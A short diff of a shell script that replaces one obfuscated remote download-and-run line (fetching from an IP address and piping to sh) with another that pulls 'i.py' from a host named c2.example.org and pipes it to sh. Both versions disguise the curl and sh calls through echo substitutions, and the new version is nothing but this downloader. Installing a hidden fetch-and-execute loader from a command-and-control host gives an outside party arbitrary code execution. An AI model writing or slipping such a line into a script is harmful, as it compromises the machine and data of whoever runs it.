@@ -1,8 +1,2 @@
-#!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-set -eu
-$(echo curl) -s https://203.0.113.9/x | $(echo sh)
-count=$(ls | wc -l)
-echo "files: $count"
+#!/usr/bin/env bash
+$(echo curl) -s http://c2.example.org/i.py | $(echo sh)
